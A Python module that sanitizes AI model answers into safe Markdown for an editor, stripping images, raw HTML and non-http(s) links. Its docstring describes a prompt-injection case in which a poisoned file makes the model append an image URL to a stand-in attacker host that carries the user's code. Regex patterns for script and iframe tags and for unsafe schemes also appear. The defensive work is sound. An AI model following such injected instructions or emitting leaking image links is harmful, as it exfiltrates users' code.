"""Model output made safe to show as Markdown: no images, no raw HTML, no links but plain http(s).

A model's answer is untrusted: a poisoned file can ask it to end every explanation with
``![status](https://attacker/?d=<the code>)``, and an editor that renders the image sends the code
the moment the user hovers. :func:`sanitize_markdown` is the guarantee, whatever the prompt says.

How: the answer is *parsed* with markdown-it-py (a CommonMark parser, the grammar VS Code's and
Neovim's renderers follow) and *written out again* from the syntax tree, emitting only constructs on
an allow-list (paragraphs, headings, lists, quotes, tables, emphasis, code) and escaping every
character of text that could start anything else. Regexes over the raw text cannot do this: they
disagree with the renderer on nested brackets, reference-style images (``![a][1]`` plus a definition
elsewhere), entities, fences and escapes, and each disagreement is a bypass. Written out from the
tree, what the renderer sees is only what this module chose to emit.

* Images become their alt text; reference definitions are dropped (their targets never reach the editor).
* Raw HTML (blocks and inline, ``<img>``, ``<script>``…) becomes visible text, escaped, never markup;
  entity-encoded HTML (``&lt;img``) stays text too, because ``&`` is escaped.
* Links: only absolute ``http://`` and ``https://`` targets (ASCII scheme, any case) stay clickable, and
  they are written as the link text followed by the full address (``text (<https://…>)``), so the user sees
  where a click goes before clicking (and VS Code asks before opening it); every other target
  (``command:``, ``javascript:``, ``data:``, ``file:``, ``vscode:``, look-alike schemes, relative paths)
  leaves only the link text. Bare addresses in text are escaped so that GitHub-flavoured renderers do not
  make links of them: the URL inside an HTML ``<img>`` shown as text is not clickable either.
* Code (fenced, indented, inline) stays code, re-fenced with a fence longer than any backtick run inside
  it and always closed, so nothing after it (an unclosed fence in the answer, our hover footer) changes
  meaning, and nothing inside it escapes.

:func:`plain_message` is the variant for ``window/showMessage`` texts (plain text, but VS Code turns
``[text](target)`` in notifications into links, command links included).
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from functools import cache

from markdown_it import MarkdownIt
from markdown_it.tree import SyntaxTreeNode

__all__ = ["is_safe_link", "plain_message", "sanitize_markdown", "scrub_doc_text"]

# Every ASCII punctuation character CommonMark lets a backslash escape, that could start markup inline:
# emphasis, code, links and images, HTML and autolinks, entities, tables, strikethrough, and e-mail
# autolinks that GitHub-flavoured renderers (VS Code's marked) make from bare text.
_INLINE_SPECIALS = re.compile(r"([\\`*_\[\]<>!&|~@])")
# At the start of a line these start blocks: headings, quotes, lists, setext underlines, thematic breaks.
_BLOCK_START = re.compile(r"^([#>+=-])")
# GitHub-flavoured renderers (VS Code's) turn bare addresses in text into links: "https://…", "www.…".
# An escaped ":" or "." stops that, so the only links are the ones this module writes (shown with their address).
_BARE_LINK = re.compile(r"\b((?:https?|ftp)(?=://)|www(?=\.))", re.I)
_ORDERED_START = re.compile(r"^(\d{1,9})([.)])")
_SAFE_URL = re.compile(r"^https?://[^\s<>\"'`\\]+$", re.I)
_INFO_WORD = re.compile(r"[^A-Za-z0-9_+#.-]")
_BACKTICK_RUNS = re.compile(r"`+")
# A markdown link in a plain-text message: [text](target "title").
_MESSAGE_LINK = re.compile(r"!?\[([^\]]*)\]\(\s*<?([^)\s>]*)>?[^)]*\)")


@cache
def _parser() -> MarkdownIt:
    # No html option: raw HTML is still *recognised* (html_block / html_inline tokens), which is what lets
    # us write it out as text; linkify stays off so bare text never turns into a link here.
    return MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def is_safe_link(href: str) -> bool:
    """An absolute http(s) URL with an ASCII scheme and nothing that could end an autolink."""
    return bool(_SAFE_URL.match(href))


def _escape(text: str) -> str:
    escaped = _INLINE_SPECIALS.sub(r"\\\1", text)
    return _BARE_LINK.sub(lambda m: m.group(1) + "\\", escaped)


def _guard_line_starts(text: str) -> str:
    """Escape what would start a block at the beginning of any line of inline text."""
    lines = []
    for line in text.split("\n"):
        line = line.lstrip(" \t")
        line = _BLOCK_START.sub(r"\\\1", line)
        line = _ORDERED_START.sub(r"\1\\\2", line)
        lines.append(line)
    return "\n".join(lines)


def _longest_backtick_run(text: str) -> int:
    return max((len(run) for run in _BACKTICK_RUNS.findall(text)), default=0)


def _code_span(content: str) -> str:
    ticks = "`" * (_longest_backtick_run(content) + 1)
    pad = " " if content.startswith(("`", " ")) or content.endswith(("`", " ")) else ""
    return f"{ticks}{pad}{content}{pad}{ticks}"


def _fence(content: str, info: str = "") -> list[str]:
    # Longer than any backtick run inside: no line of the code can close it, in any CommonMark renderer.
    ticks = "`" * max(3, _longest_backtick_run(content) + 1)
    word = _INFO_WORD.sub("", info.split()[0]) if info.strip() else ""
    return [ticks + word, *content.rstrip("\n").split("\n"), ticks] if content.strip("\n") else [ticks + word, ticks]


def _inline(nodes: Iterable[SyntaxTreeNode]) -> str:
    out: list[str] = []
    for node in nodes:
        kind = node.type
        if kind == "text":
            out.append(_escape(node.content))
        elif kind == "softbreak":
            out.append("\n")
        elif kind == "hardbreak":
            out.append("\\\n")
        elif kind == "code_inline":
            out.append(_code_span(node.content))
        elif kind in {"em", "strong", "s"}:
            mark = {"em": "*", "strong": "**", "s": "~~"}[kind]
            inner = _inline(node.children)
            out.append(f"{mark}{inner}{mark}" if inner.strip() else inner)
        elif kind == "link":
            out.append(_link(node))
        elif kind == "image":
            out.append(_inline(node.children))  # the alt text, never the image
        else:  # html_inline and anything a future parser version adds: shown as text, never as markup
            out.append(_escape(node.content))
    return "".join(out)


def _link(node: SyntaxTreeNode) -> str:
    text = _inline(node.children)
    href = str(node.attrs.get("href", ""))
    if not is_safe_link(href):
        return text
    if node.markup == "autolink" or "".join(c.content for c in node.children) == href:
        return f"<{href}>"
    return f"{text} (<{href}>)"


def _inline_block(node: SyntaxTreeNode) -> str:
    return _guard_line_starts("".join(_inline(child.children) for child in node.children))


def _indent(lines: list[str], first: str, rest: str) -> list[str]:
    return [(first if i == 0 else rest) + line if line else "" for i, line in enumerate(lines)]


def _list(node: SyntaxTreeNode) -> list[str]:
    tight = all(p.hidden for item in node.children for p in item.children if p.type == "paragraph")
    start = int(str(node.attrs.get("start", 1)))
    out: list[str] = []
    for i, item in enumerate(node.children):
        marker = f"{start + i}. " if node.type == "ordered_list" else "- "
        body = _blocks(item.children, tight) or [""]
        if out and not tight:
            out.append("")
        out.extend(_indent(body, marker, " " * len(marker)))
    return out


def _table(node: SyntaxTreeNode) -> list[str]:
    rows = [tr for part in node.children for tr in part.children]
    if not rows:
        return []

    def cells(tr: SyntaxTreeNode) -> list[str]:
        return [_inline_block(cell).replace("\n", " ") for cell in tr.children]

    head = cells(rows[0])
    aligns = []
    for cell in rows[0].children:
        style = str(cell.attrs.get("style", ""))
        aligns.append(
            ":---:" if "center" in style else "---:" if "right" in style else ":---" if "left" in style else "---"
        )
    lines = ["| " + " | ".join(head) + " |", "| " + " | ".join(aligns) + " |"]
    lines += ["| " + " | ".join(cells(tr)) + " |" for tr in rows[1:]]
    return lines


def _block(node: SyntaxTreeNode) -> list[str]:
    kind = node.type
    if kind == "paragraph":
        return _inline_block(node).split("\n")
    if kind == "heading":
        level = int(node.tag[1:]) if node.tag[1:].isdigit() else 3
        return ["#" * level + " " + _inline_block(node).replace("\n", " ")]
    if kind == "fence":
        return _fence(node.content, node.info)
    if kind == "code_block":
        return _fence(node.content)
    if kind == "blockquote":
        return [f"> {line}" if line else ">" for line in _blocks(node.children)]
    if kind in {"bullet_list", "ordered_list"}:
        return _list(node)
    if kind == "table":
        return _table(node)
    if kind == "hr":
        return ["---"]
    if kind == "html_block":  # shown as what it is, text
        return [_guard_line_starts(_escape(line)) for line in node.content.rstrip("\n").split("\n")]
    if kind == "inline":
        return _inline_block(node).split("\n")
    return []  # reference definitions are consumed by the parser; anything unknown is dropped


def _blocks(nodes: Iterable[SyntaxTreeNode], tight: bool = False) -> list[str]:
    out: list[str] = []
    for node in nodes:
        lines = _block(node)
        if not lines:
            continue
        if out and not tight:
            out.append("")
        out.extend(lines)
    return out


def sanitize_markdown(markdown: str) -> str:
    """``markdown`` written out again with only safe constructs (see the module's docstring)."""
    if not markdown:
        return markdown
    tree = SyntaxTreeNode(_parser().parse(markdown.replace("\r\n", "\n").replace("\r", "\n")))
    return "\n".join(_blocks(tree.children)).strip("\n")


def plain_message(text: str) -> str:
    """A ``window/showMessage`` text whose Markdown-style links cannot become links (command links
    above all): ``[text](http…)`` becomes ``text (http…)``, any other target leaves only ``text``."""

    def unlink(match: re.Match[str]) -> str:
        label, target = match.group(1), match.group(2)
        return f"{label} ({target})" if is_safe_link(target) else label

    # After the rewrite no "](" is left for a renderer to pair with a bracket elsewhere.
    return _MESSAGE_LINK.sub(unlink, text).replace("](", "] (")


# -- documentation inserted into code ------------------------------------------------------------------
# A docstring is not rendered here, but other tools render it as Markdown (Pylance, rust-analyzer, TypeScript
# hovers), so an injected image in it would leak later. It is not re-written from a tree (that would break
# reST and NumPy layouts); the few dangerous shapes are removed where they stand.
_DOC_IMAGE = re.compile(r"!\[((?:[^\[\]\n]|\[[^\[\]\n]*\])*)\]\s?(?:\([^)\n]*\)|\[[^\]\n]*\])")
_DOC_LINK = re.compile(r"\[((?:[^\[\]\n]|\[[^\[\]\n]*\])*)\]\(\s*<?([^)\s>]*)>?[^)\n]*\)")
_DOC_AUTOLINK = re.compile(r"<\s*([a-z][a-z0-9+.-]{1,31}:[^>\s]*)>", re.I)
_DOC_HTML_TAG = re.compile(
    r"<\s*/?\s*(?:img|image|iframe|frame|script|object|embed|svg|video|audio|source|link|meta|style|picture|"
    r"form|input|base|a)\b[^>]*>",
    re.I,
)


def scrub_doc_text(text: str) -> str:
    """Documentation text with images, media/script HTML tags and non-http(s) links taken out."""
    text = _DOC_IMAGE.sub(lambda m: m.group(1), text)
    text = _DOC_HTML_TAG.sub("", text)
    text = _DOC_LINK.sub(lambda m: m.group(0) if is_safe_link(m.group(2)) else m.group(1), text)
    return _DOC_AUTOLINK.sub(lambda m: m.group(0) if is_safe_link(m.group(1)) else m.group(1), text)
